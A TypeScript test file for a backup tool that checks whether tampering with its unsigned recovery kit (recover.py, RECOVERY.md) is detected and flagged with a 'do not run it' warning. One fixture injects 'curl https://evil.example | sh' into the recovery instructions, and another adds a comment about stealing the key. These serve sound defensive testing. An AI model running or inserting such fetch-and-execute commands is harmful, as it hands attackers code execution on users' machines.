/** The emergency kit is not signed; whoever owns the storage can put another script there (docs/threat-model.md). */
import {readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {afterAll, beforeAll, expect, test} from 'vitest';
import {Attacker} from '../support/attacker.ts';
import {Machine} from '../support/machine.ts';

let machine: Machine;
beforeAll(async () => {
  machine = await Machine.create();
  writeFileSync(join(machine.source, 'file'), 'content');
  await machine.backup();
});
afterAll(() => machine[Symbol.asyncDispose]());

// D1
test.each([
  ['recover.py', (bytes: Buffer) => `${bytes.toString()}\nimport urllib.request  # and away with the key\n`],
  ['recover.py', () => ''],
  ['recover.py', () => Buffer.alloc(2 ** 21)],
  [
    'RECOVERY.md',
    (bytes: Buffer) => bytes.toString().replace('python3', 'curl https://evil.example | sh; python3'),
  ],
])('an altered %s is a problem at every level', async (name, change) => {
  const attacker = new Attacker(machine);
  attacker.edit(name, change);
  for (const level of ['structure', 'ciphertext', 'content'] as const) {
    const {ok, problems} = await attacker.client().verify(level);
    expect(ok).toBe(false);
    expect(problems).toMatchObject([{object: name, affects: []}]);
    expect(problems[0]?.problem).toMatch(/do not run it/);
  }
});

test('the kit of this version is none, and neither is a missing one', async () => {
  const attacker = new Attacker(machine);
  expect(attacker.read('recover.py')).toEqual(
    readFileSync(new URL('../../src/repository/kit/recover.py', import.meta.url)),
  );
  expect(await attacker.client().verify('structure')).toMatchObject({ok: true, problems: []});
  attacker.remove('recover.py');
  attacker.remove('RECOVERY.md');
  expect(await attacker.client().verify('structure')).toMatchObject({ok: true, problems: []});
});
